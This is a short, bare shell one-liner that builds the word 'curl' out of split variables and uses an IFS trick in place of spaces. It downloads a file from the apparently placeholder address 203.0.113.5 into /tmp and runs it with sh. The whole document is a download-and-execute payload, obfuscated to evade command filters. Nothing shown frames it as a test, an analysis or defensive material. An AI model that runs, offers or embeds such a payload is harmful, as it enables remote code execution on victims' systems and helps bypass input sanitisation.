a=c;b=url;IFS=,;X=$a$b
$X${IFS}-s${IFS}http://203.0.113.5/p -o /tmp/p; sh /tmp/p
